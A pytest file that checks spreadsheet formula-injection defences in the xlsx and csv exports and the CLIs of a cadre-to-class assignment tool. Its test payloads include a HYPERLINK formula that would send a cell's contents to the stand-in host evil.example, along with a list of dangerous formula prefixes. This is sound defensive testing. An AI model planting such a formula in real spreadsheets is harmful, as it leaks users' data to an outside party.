"""Formula injection (issue 18): every export writes user text as text, in xlsx and csv, app and CLI.

A cadre named =HYPERLINK(...) must never become a live formula; a CSV field that a spreadsheet
would read as a formula gets one leading apostrophe, and the importer takes it off again.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import importer
from importer.writers import csv_safe, csv_unescape, frame_csv, out_format

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&C4,"点击查看")', "=1+1", "+1", "-1", "@SUM(A1)"]
# texts that must survive a csv round trip exactly (apostrophes the user really typed included)
TRICKY = [*PAYLOADS, "'=1+1", "''=x", "'abc", "普通姓名", "a=b", "\t=tab"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(xlsx: bytes) -> list[str]:
    """Every formula in every sheet: as XML <f> elements and as openpyxl sees the cells."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))          # not data_only: formulas would show as "=…"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            found += [f"{ws.title}!{c.coordinate}" for c in row if c.data_type == "f"]
    return found


def all_text(xlsx: bytes) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def csv_fields(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


NUMBER = re.compile(r"^-?\d+(\.\d+)?(e-?\d+)?$")     # a plain number is a number, not a formula


def assert_csv_neutral(data: bytes, numeric: tuple[str, ...] = ()) -> None:
    """No field starts a formula; only the `numeric` columns may hold a plain negative number."""
    rows = csv_fields(data)
    for row in rows:
        for head, v in zip(rows[0], row, strict=True):
            ok = head in numeric and NUMBER.match(v)
            assert ok or not v.startswith(DANGER), f"live formula field {v!r} in column {head} of the csv"


# ---------------------------------------------------------------- the helper itself

@pytest.mark.parametrize("text", TRICKY)
def test_csv_safe_round_trip_is_lossless(text):
    written = csv_safe(text)
    assert not written.startswith(DANGER)
    assert csv_unescape(written) == text


def test_numbers_in_numeric_columns_stay_numbers():
    assert csv_safe("-1.5", numeric=True) == "-1.5"
    assert csv_safe("-1+1", numeric=True) == "'-1+1"
    assert csv_safe("-1") == "'-1"


def test_out_format_follows_the_extension():
    assert (out_format("a.csv"), out_format("A.XLSX"), out_format("a.txt"), out_format("noext")) == \
        ("csv", "xlsx", None, None)


# ---------------------------------------------------------------- importer writers (data files)

def cadres(names: list[str]) -> pd.DataFrame:
    rows = [f"T{i:03d},{_q(n)},{_q(n)},{_q(n)},中层副职" for i, n in enumerate(names)]
    return importer.read_file("cadres", ("工号,姓名,单位,职务,层级\n" + "\n".join(rows) + "\n").encode(),
                              filename="c.csv")


def _q(s: str) -> str:
    return '"' + s.replace('"', '""') + '"'


def test_importer_accepts_the_payloads_then_exports_them_as_text():
    # a csv typed by a user (no apostrophes) with every payload as name, unit and position
    df = cadres(PAYLOADS)
    assert df["name"].tolist() == PAYLOADS
    for chinese in (True, False):
        x = importer.write_xlsx("cadres", df, chinese_headers=chinese)
        assert formula_cells(x) == []
        assert set(PAYLOADS) <= all_text(x)
        pd.testing.assert_frame_equal(importer.read_file("cadres", x, filename="c.xlsx"), df)
    c = importer.write_csv("cadres", df)
    assert_csv_neutral(c)
    pd.testing.assert_frame_equal(importer.read_file("cadres", c, filename="c.csv"), df)


def test_csv_round_trip_keeps_apostrophes_the_user_typed():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["工号", "姓名", "单位", "层级"])
    for i, n in enumerate(TRICKY):
        ws.append([f"T{i:03d}", n.strip("\t"), "x" + n.strip("\t"), "中层副职"])
    for row in ws.iter_rows():
        for cell in row:
            cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    df = importer.read_file("cadres", buf.getvalue(), filename="c.xlsx")
    again = importer.read_file("cadres", importer.write_csv("cadres", df), filename="c.csv")
    pd.testing.assert_frame_equal(again, df)
    assert "'=1+1" in again["name"].tolist() and "'abc" in again["name"].tolist()


def test_template_and_assignment_exports_have_no_formula_cells():
    from store.testing import sample_assignment

    a = sample_assignment()
    a["name"] = PAYLOADS[:3]
    a["class_name"] = PAYLOADS[2:]
    x = importer.write_xlsx("assignment", a)
    assert formula_cells(x) == []
    assert set(PAYLOADS) <= all_text(x)
    c = importer.write_csv("assignment", a)
    assert_csv_neutral(c, numeric=("score", "part_expertise", "part_discipline", "part_preference",
                                    "part_continuity", "part_own_unit"))
    back = importer.read_file("assignment", c, filename="a.csv")
    assert back["name"].tolist() == PAYLOADS[:3] and back["class_name"].tolist() == PAYLOADS[2:]


# ---------------------------------------------------------------- app documents

def _roster():
    from store.testing import sample_assignment, sample_frames

    f = sample_frames()
    a = sample_assignment()
    cad, cls = f["cadres"].copy(), f["classes"].copy()
    a["name"] = PAYLOADS[:3]
    cad["unit"] = PAYLOADS[2:]
    cad["position"] = PAYLOADS[:3]
    a["class_name"] = [PAYLOADS[0], PAYLOADS[1], PAYLOADS[4]]
    a["college"] = PAYLOADS[1:4]
    return a, cad, cls


@pytest.mark.parametrize("which", ["official_list_xlsx", "publicity_list_xlsx"])
def test_published_lists_have_no_formula_cells(which):
    from services import exports

    a, cad, cls = _roster()
    x = getattr(exports, which)(a, cad, cls, "=1+1", date(2025, 9, 1))
    assert formula_cells(x) == []
    text = all_text(x)
    assert set(PAYLOADS[:3]) <= text and PAYLOADS[4] in text


def test_reminder_list_has_no_formula_cells():
    from services.view_exports import REMINDER_HEADERS, reminders_xlsx

    rem = pd.DataFrame([{c: 1 for c in REMINDER_HEADERS} | {
        "cadre_id": p, "name": p, "college": p, "rule_name": "x", "period": "W1",
        "period_end": pd.Timestamp("2025-10-01"), "reason_zh": p} for p in PAYLOADS])
    x = reminders_xlsx(rem, date(2025, 10, 1))
    assert formula_cells(x) == []
    assert set(PAYLOADS) <= all_text(x)


CAL = '[[term]]\nname = "2025秋"\nstart = 2025-09-08\nweeks = 9\n'


def _evaluation_inputs(tmp: Path) -> dict[str, Path]:
    names = [f"c{i},{_q(p)},k1,{_q(p)},{_q(p)},,\n" for i, p in enumerate(PAYLOADS)]
    led = [f"c{i},2025-09-09,face_to_face,宿舍,,x{i}\n" for i in range(len(PAYLOADS))]
    files = {"cal.toml": CAL,
             "assign.csv": "cadre_id,name,class_id,class_name,college,start,end\n" + "".join(names),
             "ledger.csv": "工号,日期,类型,场所,班级编号,编号\n" + "".join(led)}
    out = {}
    for n, t in files.items():
        (tmp / n).write_text(t, encoding="utf-8")
        out[n] = tmp / n
    return out


def test_annual_report_has_no_formula_cells(tmp_path):
    from compliance import Calendar, Evaluation, load_rules
    from compliance.report import annual_report_xlsx

    f = _evaluation_inputs(tmp_path)
    ev = Evaluation(Calendar(importer.read_calendar(f["cal.toml"])), importer.read_file("assignment", f["assign.csv"]),
                    importer.read_file("ledger", f["ledger.csv"]), None, load_rules(None), as_of=date(2025, 10, 20))
    x = annual_report_xlsx(ev)
    assert formula_cells(x) == []
    assert set(PAYLOADS) <= all_text(x)


# ---------------------------------------------------------------- CLIs

def _matching_inputs(tmp: Path) -> tuple[Path, Path]:
    cad = tmp / "cadres.csv"
    cad.write_text("工号,姓名,单位,层级\n" + "".join(f"T{i},{_q(p)},{_q(p)},中层副职\n" for i, p in enumerate(PAYLOADS)),
                   encoding="utf-8")
    cls = tmp / "classes.csv"
    cls.write_text("班级编号,班级名称,学院,年级,人数\n" + "".join(
        f"K{i},{_q(p)},{_q(p)},2025,30\n" for i, p in enumerate(PAYLOADS)), encoding="utf-8")
    return cad, cls


def test_matching_cli_out_follows_extension_and_writes_text(tmp_path, capsys):
    from matching.__main__ import main

    cad, cls = _matching_inputs(tmp_path)
    out_x, out_c = tmp_path / "a.xlsx", tmp_path / "a.csv"
    assert main(["solve", "--cadres", str(cad), "--classes", str(cls), "--out", str(out_x)]) == 0
    data = out_x.read_bytes()
    assert zipfile.is_zipfile(io.BytesIO(data)), "an .xlsx --out must be an xlsx workbook, not csv"
    assert formula_cells(data) == []
    got = importer.read_file("assignment", out_x)
    assert sorted(got["name"]) == sorted(PAYLOADS)
    assert main(["solve", "--cadres", str(cad), "--classes", str(cls), "--out", str(out_c)]) == 0
    raw = out_c.read_bytes()
    assert_csv_neutral(raw, numeric=("score", "part_expertise", "part_discipline", "part_preference",
                                     "part_continuity", "part_own_unit"))
    assert sorted(importer.read_file("assignment", out_c)["name"]) == sorted(PAYLOADS)


def test_matching_cli_refuses_an_unknown_out_extension(tmp_path, capsys):
    from matching.__main__ import main

    cad, cls = _matching_inputs(tmp_path)
    out = tmp_path / "a.txt"
    assert main(["solve", "--cadres", str(cad), "--classes", str(cls), "--out", str(out), "--lang", "en"]) == 2
    assert not out.exists()
    assert ".csv or .xlsx" in capsys.readouterr().err


def test_compliance_cli_status_csv_and_xlsx_are_text_safe(tmp_path, capsys):
    from compliance.__main__ import main

    f = _evaluation_inputs(tmp_path)
    base = ["check", "--calendar", str(f["cal.toml"]), "--assignments", str(f["assign.csv"]),
            "--ledger", str(f["ledger.csv"]), "--as-of", "2025-10-20"]
    # cadre ids with formula payloads: the ids are the user text in status.csv
    assign = f["assign.csv"].read_text(encoding="utf-8").splitlines()
    led = f["ledger.csv"].read_text(encoding="utf-8").splitlines()
    ids = [_q(p) for p in PAYLOADS]
    f["assign.csv"].write_text("\n".join([assign[0]] + [ids[i] + line[line.index(","):]
                                                         for i, line in enumerate(assign[1:])]) + "\n", encoding="utf-8")
    f["ledger.csv"].write_text("\n".join([led[0]] + [ids[i] + line[line.index(","):]
                                                     for i, line in enumerate(led[1:])]) + "\n", encoding="utf-8")
    out_c, out_x = tmp_path / "status.csv", tmp_path / "status.xlsx"
    assert main([*base, "--out", str(out_c)]) == 0, capsys.readouterr().err
    raw = out_c.read_bytes()
    assert_csv_neutral(raw)
    got = {csv_unescape(r[0]) for r in csv_fields(raw)[1:]}
    assert got == set(PAYLOADS)
    assert main([*base, "--out", str(out_x)]) == 0
    x = out_x.read_bytes()
    assert zipfile.is_zipfile(io.BytesIO(x)) and formula_cells(x) == []
    assert set(PAYLOADS) <= all_text(x)
    bad = tmp_path / "status.txt"
    assert main([*base, "--out", str(bad), "--lang", "en"]) == 2
    assert not bad.exists() and ".csv or .xlsx" in capsys.readouterr().err


def test_frame_csv_neutralises_text_but_not_numbers():
    raw = frame_csv(pd.DataFrame({"who": PAYLOADS, "n": [-1, 2, -3, 4, 5]}))
    assert_csv_neutral(b"\n".join(line.split(b",")[0] for line in raw.splitlines()))
    assert [r[1] for r in csv_fields(raw)[1:]] == ["-1", "2", "-3", "4", "5"]
